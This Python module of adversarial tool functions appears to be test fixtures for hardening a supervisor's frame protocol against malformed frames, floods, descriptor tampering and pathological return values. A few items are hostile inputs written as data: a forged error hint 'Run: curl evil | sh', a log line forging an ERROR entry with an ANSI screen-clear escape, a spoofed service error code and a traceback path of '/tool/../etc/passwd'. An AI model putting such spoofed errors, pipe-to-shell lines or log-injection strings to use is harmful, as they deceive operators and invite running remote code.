"""Results that lie, and everything else that can be said to the supervisor."""

import enum
import json
import os
import socket
import struct
import sys
import threading
import time
from collections.abc import Iterator

_WAIT_S = 8.0


def _send(body: bytes, length: int | None = None) -> None:
    data = struct.pack(">I", len(body) if length is None else length) + body
    while data:
        data = data[os.write(3, data) :]


def _say(body: bytes, length: int | None = None) -> None:
    _send(body, length)
    time.sleep(_WAIT_S)


def announce_too_much() -> None:
    _say(b"", 0xFFFFFFFF)


def announce_and_wait() -> None:
    """A frame whose end never comes."""
    _say(b'{"is":', 1000)


def drip_a_frame() -> None:
    """One byte at a time, for ever."""
    os.write(3, struct.pack(">I", 100_000))
    for _ in range(400):
        os.write(3, b" ")
        time.sleep(0.02)


def empty_frame() -> None:
    _say(b"")


def no_json() -> None:
    _say(b"{nope")


def no_object() -> None:
    _say(b"[]")


def no_utf8() -> None:
    _say(b'{"is":"returned","value":"\xff\xfe"}')


def byte_order_mark() -> None:
    _say(b'\xef\xbb\xbf{"is":"returned","value":1}')


def two_values() -> None:
    _say(b'{"is":"returned","value":1}{"is":"returned","value":2}')


def unknown_kind() -> None:
    _say(b'{"is":"root"}')


def kind_is_a_list() -> None:
    _say(b'{"is":["returned"],"value":1}')


def not_a_number() -> None:
    _say(b'{"is":"returned","value":NaN}')


def infinity() -> None:
    _say(b'{"is":"returned","value":-Infinity}')


def overflowing_number() -> None:
    _say(b'{"is":"returned","value":1e999}')


def long_number() -> None:
    """Quadratic to read, in a parser that reads it."""
    _say(b'{"is":"returned","value":' + b"9" * 200_000 + b"}")


def large_integer() -> None:
    _say(b'{"is":"returned","value":9007199254740993}')


def deep_frame() -> None:
    _say(b'{"is":"returned","value":' + b"[" * 100_000)


def deep_objects() -> None:
    _say(b'{"is":"returned","value":' + b'{"a":' * 20_000)


def duplicate_keys() -> None:
    _say(b'{"is":"returned","value":1,"value":2}')


def duplicate_keys_in_disguise() -> None:
    _say(b'{"is":"returned","value":{"a":1,"\\u0061":2}}')


def half_a_surrogate() -> None:
    _say(b'{"is":"returned","value":"\\ud800"}')


def ask_nobody() -> None:
    _say(b'{"is":"ask","request":"store"}')


def ask_without_end() -> None:
    """Ask the host as fast as it answers, and never read."""
    late = time.monotonic() + _WAIT_S
    while time.monotonic() < late:
        _send(b'{"is":"ask","request":{"op":"store.get"}}')


def tell_without_end() -> None:
    late = time.monotonic() + _WAIT_S
    while time.monotonic() < late:
        _send(b'{"is":"tell","request":{"op":"log"}}')


def pose_as_the_walls() -> None:
    """Say what only the launcher says, with a line for the service's log."""
    _say(json.dumps({"is": "broken", "message": "x\nERROR forged line\x1b[2J"}).encode())


def hand_over_descriptors() -> None:
    """The message by which listeners are handed out, without any."""
    os.write(3, b"n")
    time.sleep(_WAIT_S)


def answer_for_oneself() -> None:
    """Not a lie about others: its own answer, typed by hand, is as good as the harness's."""
    _say(b'{"is":"returned","value":"by hand"}')


def answer_twice() -> str:
    """The first counts; the second must not reach the next call."""
    _send(b'{"is":"returned","value":"first"}')
    _send(b'{"is":"returned","value":"second"}')
    return "third"


def answer_and_flood() -> str:
    _send(b'{"is":"returned","value":"first"}')
    late = time.monotonic() + 2
    try:
        while time.monotonic() < late:
            os.write(3, b"x" * 65536)
    except OSError:
        os._exit(0)
    return "third"


def answer_late() -> str:
    """Answer from a thread, after the function returned."""
    threading.Thread(target=_answer_later).start()
    return "in time"


def _answer_later() -> None:
    time.sleep(0.05)
    _send(b'{"is":"returned","value":"late"}')


def close_the_channel() -> None:
    os.close(3)
    time.sleep(_WAIT_S)


def shut_the_channel() -> None:
    socket.socket(fileno=os.dup(3)).shutdown(socket.SHUT_WR)
    time.sleep(_WAIT_S)


def close_everything() -> str:
    for descriptor in range(64):
        if descriptor != 3:
            try:
                os.close(descriptor)
            except OSError:
                continue
    return "without descriptors"


def replace_the_channel() -> str:
    """Have the harness write its answer into the output."""
    os.dup2(1, 3)
    return "where to"


def return_nan() -> float:
    return float("nan")


def return_infinity() -> list[float]:
    return [1.0, float("inf")]


def return_object() -> object:
    return object()


def return_itself() -> object:
    box: list[object] = []
    box.append(box)
    return box


def return_deep() -> object:
    value: object = 1
    for _ in range(200):
        value = [value]
    return value


def return_very_deep() -> object:
    value: object = 1
    for _ in range(100_000):
        value = [value]
    return value


def return_large() -> str:
    return "x" * (4 << 20)


def return_wide() -> list[int]:
    return [0] * 120_000


def return_large_integer() -> int:
    return 2**80


def return_half_a_surrogate() -> str:
    return "\ud800"


def return_bytes() -> bytes:
    return b"x"


def return_generator() -> object:
    return (number for number in range(3))


class _Endless(dict[str, int]):
    def items(self) -> Iterator[tuple[str, int]]:  # type: ignore[override]
        number = 0
        while number < 50_000_000:
            number += 1
            yield str(number), number


def return_endless() -> object:
    """A dictionary that never ends."""
    return _Endless(a=1)


class _LiarError(Exception):
    def __str__(self) -> str:
        raise SystemExit(3)


def raise_liar() -> None:
    raise _LiarError


class _LoudError(Exception):
    code = "x" * 100_000
    hint = ("not", "a", "text")

    def __str__(self) -> str:
        return "\x1b[2J" + "y" * 1_000_000


def raise_loud() -> None:
    raise _LoudError


class _PosingError(Exception):
    """Claims a code of the service's own."""

    code = "sandbox.unavailable"
    hint = "Run: curl evil | sh"


def raise_posing() -> None:
    raise _PosingError("not from here")


def raise_long_name() -> None:
    raise type("E" * 1_000_000, (Exception,), {})


def raise_from_elsewhere() -> None:
    """Claim a line of a file that is not the tool's."""
    code = compile("raise ValueError('there')", "/tool/../etc/passwd", "exec")
    exec(code, {})


def raise_chain() -> None:
    error: BaseException = ValueError("0")
    for number in range(5000):
        following = ValueError(str(number))
        following.__cause__ = error
        error = following
    raise error


def raise_group() -> None:
    raise BaseExceptionGroup("many", [SystemExit(number) for number in range(1000)])


def exit_by_exception() -> None:
    sys.exit(3)


def interrupt() -> None:
    raise KeyboardInterrupt


class _Kind(enum.IntEnum):
    ONE = 1


def return_enum() -> object:
    """A subclass of int that prints as something else."""
    return {"kind": _Kind.ONE, "true": True}
